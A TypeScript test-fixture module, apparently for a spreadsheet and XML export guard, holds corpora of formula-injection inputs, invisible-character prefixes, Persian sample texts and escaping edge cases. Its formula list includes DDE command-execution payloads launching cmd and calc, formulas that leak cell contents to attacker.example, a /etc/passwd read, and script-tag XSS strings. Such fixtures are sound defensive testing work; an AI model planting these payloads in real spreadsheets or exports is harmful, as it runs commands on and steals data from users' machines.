/** What a spreadsheet would run, or show as something else than was written, if it were let. */
const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://attacker.example/?leak="&A1&B1,"برای دیدن پاسخ اینجا را بزنید")',
  '=IMPORTXML(CONCAT("https://attacker.example/",A1),"//a")',
  '=WEBSERVICE("https://attacker.example/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  "=2+5+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=ROW()',
  '=۱+۱',
  '-۵',
  '=',
  '-',
  '==1',
  '"=1+1"',
  '=1+1";=1+1',
  '=1+1\r\n=2+2',
]

/** What programs pass over before they see the sign. */
const COVERS: readonly string[] = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\v',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200c',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202e',
  '\u2066',
  '\u2068',
  '\u061c',
  '\u00ad',
  '\u2060',
  '\u115f',
  '\u2028',
  '\u0001',
  '\u007f',
  '"',
  ' \u200f\t ',
]

const OTHER_SIGNS: readonly string[] = [
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(A1)',
  '\u22121+1',
  '|cmd',
  '%1',
  '\tmain',
  '\rmain',
  '\nmain',
]

/** Texts that begin, to some program, with the sign of a formula. */
export const FORMULA_CORPUS: readonly string[] = [
  ...COVERS.flatMap((cover) => FORMULAS.slice(0, 5).map((formula) => cover + formula)),
  ...FORMULAS,
  ...OTHER_SIGNS,
  ...OTHER_SIGNS.map((sign) => `\u200f ${sign}`),
]

/** Texts that no guard may touch, or that a careless one could not give back. */
export const HARMLESS_CORPUS: readonly string[] = [
  'ماده ۵ اصلاح شود.',
  '(=1+1)',
  'a=1',
  '۱-۲',
  '«+»',
  '. =1',
  '0012',
  '1e5',
  '1405/09/08',
  'TRUE',
  '#N/A',
]

/** Texts that begin with the guard itself. */
export const QUOTED_CORPUS: readonly string[] = ["'", "''", "'=1+1", "''=1+1", "'نقل'", "'0012"]

/** Texts that strain escaping, not formulas. Each is one that XML and UTF-8 can hold. */
export const HARD_TEXTS: readonly string[] = [
  '',
  ' ',
  '  دو فاصله در آغاز و پایان  ',
  'سطر یکم\nسطر دوم\n\nسطر چهارم',
  'ستون\tستون',
  'a,b;c|d\te',
  '"',
  '""',
  'گفت: "نه"',
  '<script>alert(1)</script>',
  '</t></is></c><c><f>1+1</f></c>',
  '</w:t></w:r></w:p>',
  '</bdi></td><td>',
  '</style><img src=x onerror=alert(1)>',
  '&amp;&lt;&#0;&#x1F;&nbsp;',
  ']]>',
  '<!-- -->',
  '_x0041_',
  '_x005F_',
  '_x005F_x0041_',
  '_x0041_x0042_',
  '_X0041_ _x41_ _x00e9_',
  '__x0041__',
  'می‌رود، آیین‌نامه، «مؤسسهٔ» حقوقی',
  'متن with English و 123 و ۴۵۶ (HTTP/2) شد.',
  'English متن فارسی English',
  '\u202eوارونه\u202c و \u2066جدا\u2069',
  'کوردی: ڕۆژنامەی فەرمی، ێ ڵ ۆ',
  '👩‍👩‍👧‍👦 🇮🇷 é 𝒜',
  '\u0085\u2028\u2029',
]

/** Texts that no XML holds as they are. */
export const UNHOLDABLE_TEXTS: readonly string[] = [
  'a\u0000b',
  'a\u0001b\u001f',
  'a\u000bb\u000cc',
  '\ud800',
  'a\udc00b',
  '\udc00\ud800',
  '\ufffe\uffff',
  'a\rb',
  'a\r\nb',
  '_x0041\u0001',
  '_x0041\u0000_x0042_',
]

/** Control characters that no XML holds. */
// eslint-disable-next-line no-control-regex -- these are what is meant
export const CONTROLS = /[\0-\x08\v\f\x0e-\x1f]/g

/** With U+FFFD for lone surrogates, which UTF-8 cannot hold. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString()
}

/** As paper has it: lines ended alike, and U+FFFD for what XML cannot hold. */
export function asPrinted(text: string): string {
  return wellFormed(text.replace(/\r\n?/g, '\n'))
    .replace(CONTROLS, '\ufffd')
    .replace(/[\ufffe\uffff]/g, '\ufffd')
}
